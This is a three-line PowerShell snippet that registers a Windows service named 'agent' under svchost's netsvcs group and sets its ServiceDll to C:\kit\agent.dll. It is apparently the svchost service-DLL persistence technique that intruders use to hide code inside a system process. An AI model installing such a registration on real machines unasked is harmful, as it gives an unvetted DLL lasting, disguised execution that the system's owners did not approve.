New-Service -Name agent -BinaryPathName 'C:\Windows\System32\svchost.exe -k netsvcs'
New-Item HKLM:\SYSTEM\CurrentControlSet\Services\agent\Parameters -Force | Out-Null
Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Services\agent\Parameters ServiceDll 'C:\kit\agent.dll'
